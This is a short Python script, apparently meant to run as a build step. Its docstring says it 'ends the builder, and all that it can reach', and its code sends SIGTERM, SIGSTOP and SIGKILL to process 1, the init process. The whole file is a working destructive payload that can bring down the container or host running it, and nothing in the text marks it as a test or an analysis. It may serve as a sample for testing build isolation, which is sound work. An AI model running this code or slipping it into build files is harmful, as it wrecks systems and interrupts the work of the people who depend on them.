"""A build that ends the builder, and all that it can reach."""

import os
import signal

for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    os.kill(1, number)
